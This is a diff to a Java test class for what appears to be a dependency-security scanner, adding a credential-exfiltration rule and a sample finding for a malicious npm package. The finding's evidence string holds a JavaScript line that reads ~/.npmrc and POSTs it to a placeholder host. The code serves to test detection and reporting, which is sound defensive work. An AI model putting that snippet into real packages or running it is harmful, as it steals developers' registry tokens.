@@ -44,6 +44,10 @@ class ReportersTest {
     static final RuleDescriptor SCRIPTS = new RuleDescriptor("scripts/install-script", Severity.HIGH,
             "Package runs install scripts", "Install scripts run code.", "Allow it or disable scripts.");
 
+    static final RuleDescriptor EXFIL = new RuleDescriptor("content/credential-exfiltration", Severity.CRITICAL,
+            "Credentials sent over the network", "Reading tokens and sending them out is what credential stealers do.",
+            "Do not install this version; report it to the registry.");
+
     static ScanReport sample() {
         Finding insecure = Finding.of(INSECURE, "lodash", "4.17.21",
                 "lodash@4.17.21 is fetched over http://: http://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
@@ -54,14 +58,18 @@ class ReportersTest {
                 new Location("package-lock.json", 80));
         Policy.Ignore ignore = new Policy.Ignore(SCRIPTS.id(), "esbuild", null, null, "reviewed in PR 12",
                 LocalDate.of(2027, 1, 31), new Location("portcullis.yml", 12));
-        PolicyResult result = new PolicyResult(List.of(insecure, pin), List.of(new PolicyResult.Ignored(scripts,
+        Finding exfil = new Finding(EXFIL, Severity.CRITICAL, "evil-helper", "1.0.1",
+                "reads ~/.npmrc and posts it to https://collect.example", new Location("evil-helper@1.0.1/install.js", 7),
+                "const t = fs.readFileSync(os.homedir() + '/.npmrc');\nfetch('https://collect.example', {method: 'POST', body: t})");
+        PolicyResult result = new PolicyResult(List.of(insecure, pin, exfil), List.of(new PolicyResult.Ignored(scripts,
                 ignore)), Severity.HIGH, false);
         Footprint footprint = new Footprint(120, 131, 8, 112, 40, 80, 2, 9,
                 Map.of("debug", List.of("2.6.9", "4.3.7")), List.of("esbuild@0.23.1"),
                 List.of(new MicroPackages.Replacement("is-nan", "native", "0.10.0", "Number.isNaN")));
         return new ScanReport("0.1.0-test", new ScanReport.LockfileSummary("package-lock.json", "npm", "3"), result,
                 footprint, List.of("yarn.lock is also present; scanned package-lock.json only"),
-                List.of(INSECURE, PIN, SCRIPTS));
+                List.of(EXFIL, INSECURE, PIN, SCRIPTS), new ScanReport.Deep(120, List.of(
+                        new ScanReport.PackageVerdict("evil-helper", "1.0.1", dev.portcullis.model.Verdict.BLOCK))));
     }
 
     static String render(ReportFormat format, ScanReport report, boolean colour) throws IOException {
@@ -97,7 +105,7 @@ class ReportersTest {
         JsonNode sarif = Json.mapper().readTree(render(ReportFormat.SARIF, sample(), false));
         Set<ValidationMessage> errors = schema.validate(sarif);
         assertThat(errors).isEmpty();
-        assertThat(sarif.at("/runs/0/tool/driver/rules").size()).isEqualTo(3);
+        assertThat(sarif.at("/runs/0/tool/driver/rules").size()).isEqualTo(4);
         assertThat(sarif.at("/runs/0/results/0/locations/0/physicalLocation/region/startLine").asInt()).isEqualTo(42);
     }
 
